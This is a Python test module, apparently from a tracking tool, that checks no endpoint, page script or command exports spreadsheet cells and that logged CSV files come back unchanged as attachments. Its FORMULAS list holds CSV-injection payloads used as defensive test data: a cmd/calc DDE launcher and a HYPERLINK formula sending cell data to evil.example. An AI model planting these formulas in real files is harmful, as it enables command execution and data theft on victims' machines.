"""Texts that a spreadsheet would obey: nothing of ours is told in a form that a spreadsheet opens as cells.

There is no export of cells: no route answers with CSV, TSV or a workbook, whatever is asked for, and no
script of a page makes one. Files that somebody logged come back byte for byte, as attachments.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from loopwright.client.index import load_index
from loopwright.surfaces.mlflow.application import routes_of
from loopwright.surfaces.mlflow.routing import paths_of
from loopwright.surfaces.ui import pages as ui
from loopwright.surfaces.ui.pages import PAGES
from loopwright.tracking import verbs
from tests.attacks.worlds import World, furnished
from tests.surfaces.asking import Answer

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
)  # fmt: skip
CELLS = re.compile(
    r"text/(csv|tab-separated-values|tsv|comma-separated-values)|application/(csv|x-csv|vnd\.ms-excel|msexcel|"
    r"vnd\.openxmlformats|vnd\.oasis)",
    re.IGNORECASE,
)
WANTED = {"accept": "text/csv, application/vnd.ms-excel, text/tab-separated-values, */*;q=0.1"}
STATIC = Path(ui.__file__).parent / "static"
_PLACE = re.compile(r"\{(\w+)[^}]*\}")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with furnished(tmp_path_factory.mktemp("formulas"), is_serving=False) as found:
        ctx = found.workspace.context()
        for at, text in enumerate(FORMULAS):
            plain = text.strip()
            verbs.start(ctx, "run", plain, experiment="e", params={f"p{at}": text}, tags={f"t{at}": text})
        yield found


def told(world: World) -> Iterator[tuple[str, Answer]]:
    """Every address that is only read, asked by who wants cells."""
    api = [
        f"/api/v1{entry.path}"
        for entry in load_index().entries.values()
        if not entry.local and entry.method == "GET"
    ]
    theirs = [
        path for route in routes_of(world.workspace) if route.method == "GET" for path in paths_of(route)
    ]
    for path in dict.fromkeys([*api, *theirs, *(page.path for page in PAGES), "/rows"]):
        target = _PLACE.sub(lambda found: world.names.get(found.group(1), "x"), path)
        for query in ("", "?experiment=e", "?format=csv&experiment=e&run_id={run_id}&path=a/b.txt"):
            yield f"{path}{query}", world.ask("GET", f"{target}{query}", headers=WANTED)


@pytest.mark.slow
def test_nothing_is_told_as_cells(world: World) -> None:
    asked = list(told(world))
    assert len(asked) > 300
    assert sum(answer.status == 200 for _, answer in asked) > 100
    for target, answer in asked:
        assert not CELLS.search(answer.headers.get("content-type", "")), target
        name = answer.headers.get("content-disposition", "")
        assert not re.search(r"\.(csv|tsv|xlsx?|ods)\b", name, re.IGNORECASE), target


def test_no_page_makes_a_file_of_cells_or_copies_any() -> None:
    """What pages copy is one address or one text; none packs a table for another program."""
    scripts = [path for path in STATIC.rglob("*.js") if "vendor" not in path.parts]
    assert len(scripts) > 10
    for path in scripts:
        text = path.read_text()
        assert "new Blob(" not in text, path.name
        assert "data:text" not in text, path.name
        assert not CELLS.search(text), path.name
        for call in re.findall(r"clipboard[^;]*", text):
            assert "writeText(" in call, path.name
            assert "join(" not in call, path.name


def test_no_command_writes_cells() -> None:
    for entry in load_index().entries.values():
        for each in entry.parameters:
            assert each.name not in {"csv", "tsv", "excel"}, entry.name
            assert not {"csv", "tsv", "xlsx"} & set(map(str, getattr(each, "choices", None) or ())) or (
                entry.name.startswith("sources.") or each.name == "format"
            ), entry.name


@pytest.mark.slow
@pytest.mark.parametrize("text", FORMULAS)
def test_a_logged_file_of_cells_is_what_it_was_and_an_attachment(world: World, text: str) -> None:
    """Changing it would be a lie about what was logged: who opens it is told by its kind."""
    content = f"name,value\n{text},1\n".encode()
    run = world.names["run_id"]
    target = f"/api/v1/runs/{run}/artifacts/content?path=cells.csv"
    sent = world.ask("POST", target, body=content, headers={"content-type": "text/csv"})
    assert sent.status == 200
    for address in (target, f"/get-artifact?run_id={run}&path=cells.csv"):
        answer = world.ask("GET", address)
        assert answer.body == content
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["x-content-type-options"] == "nosniff"
        kind = answer.headers["content-type"]
        assert kind.startswith(("text/plain", "application/octet-stream")), kind
